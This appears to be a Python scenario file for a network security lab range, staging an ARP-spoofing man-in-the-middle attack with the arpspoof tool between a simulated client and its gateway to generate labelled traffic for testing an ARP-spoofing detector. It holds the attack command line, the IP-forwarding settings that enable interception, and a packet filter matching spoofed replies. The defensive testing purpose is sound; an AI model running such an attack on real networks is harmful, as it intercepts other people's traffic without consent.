"""arpspoof between a client and its gateway."""

from lab.range import Range, arp_sender
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, client, gateway = net.inside("attacker"), net.inside("pc3"), net.router()
    www = net.web(net.outside("www"))
    attacker.sysctl(net__ipv4__ip_forward="1", net__ipv4__conf__all__send_redirects="0")
    attacker.sysctl(net__ipv4__conf__eth0__send_redirects="0")
    net.everyday()
    net.loop(client, f"curl -s -m 3 -o /dev/null http://{www.ip}/", 0.7)
    net.quiet(3)
    with net.attack(
        "arp-spoofing",
        by=attacker,
        attackers=[attacker.mac],
        victims=[client, gateway],
        others={"claimed": [gateway, client]},
        # Replies with its own MAC for somebody else's address: not its own resolution, nor the true replies
        # with which it tidies up at its end.
        frames=f"arp and arp[6:2] == 2 and not arp src host {attacker.ip} and {arp_sender(attacker)}",
    ):
        net.tool(attacker, "arpspoof", "-i", "eth0", "-t", client.ip, "-r", gateway.ip, seconds=12)
    net.quiet(3)


SCENARIO = Scenario(
    name="arp-spoofing-arpspoof",
    about="arpspoof puts an attacker between a client that fetches pages and its gateway.",
    detectors=("arp-spoofing",),
    tools={"arpspoof": "dsniff"},
    run=run,
)
